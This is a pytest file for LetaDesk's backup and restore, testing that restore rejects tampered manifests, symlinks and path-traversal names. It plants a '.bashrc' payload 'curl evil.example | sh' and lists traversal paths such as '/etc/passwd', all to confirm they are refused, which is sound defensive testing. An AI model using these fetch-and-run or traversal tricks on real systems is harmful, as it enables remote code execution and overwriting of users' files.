"""backup while the profile is open, restore, then doctor: the same profile (issue 15)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from corpus_factory import CONTRACT_RO, NDA_EN, write_text
from letadesk.backup import _mac, backup, restore
from letadesk.cli import main
from letadesk.config import Paths
from letadesk.errors import ConfigError, StoreError
from letadesk.files import sha256_of
from letadesk.generate.allowlist import ModelAllowList
from letadesk.index.tantivy_index import LexicalIndex
from letadesk.store import audit, index_rows
from letadesk.store.audit_key import load_key
from letadesk.workspace import Workspace


def _state(ws: Workspace) -> tuple[dict[str, int], list[tuple[int, str]], bool]:
    chain = [
        (int(r[0]), str(r[1])) for r in ws._conn.execute("SELECT seq, hash FROM audit ORDER BY seq")
    ]
    return ws.documents.counts(), chain, ws.audit.check().intact


@pytest.mark.slow
def test_backup_then_restore_gives_the_same_profile(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    docs = tmp_path / "docs"
    write_text(docs, "contract.txt", CONTRACT_RO)
    write_text(docs, "nda.txt", NDA_EN)
    source, copy, restored = tmp_path / "source", tmp_path / "backup", tmp_path / "restored"
    with Workspace.open(source) as ws:  # the app keeps the profile open meanwhile
        ws.documents.ingest([docs], matter="Acme")
        for q in ("Care este preavizul?", "Who may receive confidential information?"):
            audit.append(
                ws._conn,
                {"question": q},
                audit_id=audit.new_audit_id(),
                matter_id=ws.matters.named("Acme").id,
            )
        before = _state(ws)
        model = tmp_path / "firm.gguf"
        model.write_bytes(b"GGUF" + b"\0" * 64)
        ModelAllowList(ws.paths.allowed_models).allow(model, sha256_of(model))
        assert main(["--data-dir", str(source), "backup", str(copy), "--json"]) == 0
    manifest = json.loads((copy / "manifest.json").read_text(encoding="utf-8"))
    assert {"letadesk.sqlite3", "audit.key", "allowed_models.json"} <= set(manifest["files"])
    assert any(name.startswith("tantivy/m") for name in manifest["files"])  # each matter's

    capsys.readouterr()
    assert main(["--data-dir", str(restored), "restore", str(copy), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["rebuilt_lexical"] is False
    assert main(["--data-dir", str(restored), "doctor"]) == 0
    with Workspace.open(restored) as ws:
        assert _state(ws) == before
        assert ModelAllowList(ws.paths.allowed_models).allows(sha256_of(model))
        assert before[2] and before[1]
        assert [p.fragment.text for p in ws.search("preaviz", matter="Acme")]


def test_restore_refuses_a_changed_backup_and_an_occupied_profile(tmp_path: Path) -> None:
    source, copy = tmp_path / "source", tmp_path / "backup"
    with Workspace.open(source) as ws:
        audit.append(ws._conn, {"question": "q"}, audit_id=audit.new_audit_id(), matter_id=None)
        backup(ws, copy)
        with pytest.raises(ConfigError, match="new or empty"):
            backup(ws, copy)
    with pytest.raises(ConfigError, match="already holds a profile"):
        restore(copy, ws.paths)
    (copy / "audit.key").write_text("0" * 64, encoding="ascii")
    with pytest.raises(StoreError, match=r"audit\.key: missing or changed"):
        restore(copy, Paths.resolve(tmp_path / "elsewhere"))


# ---- an untrusted backup folder (a USB stick, a colleague) ------------------------------


def _backup(tmp_path: Path, *, documents: bool = False) -> Path:
    copy = tmp_path / "backup"
    with Workspace.open(tmp_path / "source") as ws:
        if documents:
            ws.documents.ingest([write_text(tmp_path / "docs", "nda.txt", NDA_EN)], matter="Acme")
        audit.append(ws._conn, {"question": "q"}, audit_id=audit.new_audit_id(), matter_id=None)
        backup(ws, copy)
    return copy


def _manifest(copy: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((copy / "manifest.json").read_text(encoding="utf-8"))
    return data


def _rewrite(copy: Path, manifest: dict[str, Any]) -> None:
    (copy / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")


def test_restore_cannot_write_outside_the_profile_through_a_link(tmp_path: Path) -> None:
    """The red team's case: a link in the backup folder and a manifest name that climbs
    out of the profile through it overwrote the user's ~/.bashrc (exit 0)."""
    copy = _backup(tmp_path)
    home = tmp_path / "home"
    bashrc = home / ".bashrc"
    bashrc.parent.mkdir()
    bashrc.write_text("# the user's own\n", encoding="utf-8")
    (copy / "d1" / "d2" / "d3" / "d4").mkdir(parents=True)
    (copy / "lnk").symlink_to("d1/d2/d3/d4")
    (copy / ".bashrc").write_text("curl evil.example | sh\n", encoding="utf-8")
    manifest = _manifest(copy)
    manifest["files"]["lnk/../../../../.bashrc"] = sha256_of(copy / ".bashrc")
    _rewrite(copy, manifest)
    profile = home / "d1" / "d2" / "d3"
    with pytest.raises(StoreError, match="not a file a LetaDesk backup writes"):
        restore(copy, Paths.resolve(profile))
    assert bashrc.read_text(encoding="utf-8") == "# the user's own\n"
    assert sorted(p.name for p in profile.iterdir()) == []


@pytest.mark.parametrize(
    "name",
    [
        "../outside.txt",
        "/etc/passwd",
        "tantivy/../x",
        "tantivy/sub/meta.json",
        "tantivy/m1/sub/meta.json",
        "tantivy/m1x/meta.json",
        "tantivy/m1/.tantivy-writer.lock",
        "tantivy/m1/../../x",
        "notes.txt",
        "tantivy/.tantivy-writer.lock",
        "letadesk.sqlite3/",
        "",
        "tantivy\\meta.json",
    ],
)
def test_restore_accepts_only_the_names_a_backup_writes(tmp_path: Path, name: str) -> None:
    copy = _backup(tmp_path)
    manifest = _manifest(copy)
    manifest["files"][name] = "0" * 64
    _rewrite(copy, manifest)
    profile = Paths.resolve(tmp_path / "restored")
    with pytest.raises(StoreError, match="not a file a LetaDesk backup writes"):
        restore(copy, profile)
    assert list(profile.root.iterdir()) == []


def test_restore_never_follows_a_link_in_the_backup(tmp_path: Path) -> None:
    """A listed file that is a link, even to a file of the right content, is refused;
    so is a link standing for the lexical index's folder."""
    copy = _backup(tmp_path, documents=True)
    key = copy / "audit.key"
    elsewhere = tmp_path / "elsewhere.key"
    key.rename(elsewhere)
    key.symlink_to(elsewhere)
    with pytest.raises(StoreError, match="not a regular file"):
        restore(copy, Paths.resolve(tmp_path / "r1"))
    key.unlink()
    elsewhere.rename(key)
    (copy / "tantivy").rename(tmp_path / "real-tantivy")
    (copy / "tantivy").symlink_to(tmp_path / "real-tantivy")
    with pytest.raises(StoreError, match="a symbolic link is never followed"):
        restore(copy, Paths.resolve(tmp_path / "r2"))
    (copy / "tantivy").unlink()
    (tmp_path / "real-tantivy").rename(copy / "tantivy")
    matter = next((copy / "tantivy").glob("m*"))  # a matter's index folder
    matter.rename(tmp_path / "real-matter")
    matter.symlink_to(tmp_path / "real-matter")
    with pytest.raises(StoreError, match="a symbolic link is never followed"):
        restore(copy, Paths.resolve(tmp_path / "r3"))
    for restored in ("r1", "r2", "r3"):
        assert not (tmp_path / restored / "letadesk.sqlite3").exists()


def test_a_backup_of_the_former_single_lexical_index_restores(tmp_path: Path) -> None:
    """A backup written when one tantivy index held every matter (its files right under
    ``tantivy/``): restored, the index is rebuilt per matter from the database."""
    copy = _backup(tmp_path, documents=True)
    with Workspace.open(tmp_path / "source") as ws:
        rows = list(index_rows.all_rows(ws._conn))
    manifest = _manifest(copy)
    manifest["files"] = {k: v for k, v in manifest["files"].items() if not k.startswith("tantivy/")}
    shutil.rmtree(copy / "tantivy")
    former = LexicalIndex(copy / "tantivy")
    former.add(rows)
    former.commit()
    for path in (copy / "tantivy").iterdir():
        if path.is_file() and not path.name.startswith("."):
            manifest["files"][f"tantivy/{path.name}"] = sha256_of(path)
    manifest["mac"] = _mac(manifest, load_key(copy / "audit.key"))
    _rewrite(copy, manifest)
    profile = Paths.resolve(tmp_path / "restored")
    restore(copy, profile)
    assert not (profile.lexical_index / "meta.json").exists()
    with Workspace(profile) as ws:
        assert ws.search("confidential", matter="Acme", dense=False)
        assert ws.doctor().consistent


def test_restore_authenticates_the_manifest(tmp_path: Path) -> None:
    """Every hash still matches, but the manifest was edited: its HMAC under the backup's
    audit key no longer does. A manifest without the key is refused too."""
    copy = _backup(tmp_path)
    manifest = _manifest(copy)
    assert manifest["format"] == 2 and len(manifest["mac"]) == 64
    manifest["counts"]["documents"] = 99
    _rewrite(copy, manifest)
    with pytest.raises(StoreError, match="not authenticated"):
        restore(copy, Paths.resolve(tmp_path / "r1"))
    manifest = _manifest(copy)
    del manifest["files"]["audit.key"]
    _rewrite(copy, manifest)
    with pytest.raises(StoreError, match="not authenticated"):
        restore(copy, Paths.resolve(tmp_path / "r2"))
    assert not (tmp_path / "r1" / "letadesk.sqlite3").exists()
    assert not (tmp_path / "r2" / "letadesk.sqlite3").exists()


def test_restore_does_not_write_through_a_link_planted_in_the_profile(tmp_path: Path) -> None:
    copy = _backup(tmp_path)
    profile = Paths.resolve(tmp_path / "restored")
    victim = tmp_path / "victim.txt"
    victim.write_text("mine\n", encoding="utf-8")
    (profile.root / "letadesk.sqlite3.restoring").symlink_to(victim)
    (profile.root / "audit.key").symlink_to(victim)
    restore(copy, profile)
    assert victim.read_text(encoding="utf-8") == "mine\n"
    assert not (profile.root / "audit.key").is_symlink()
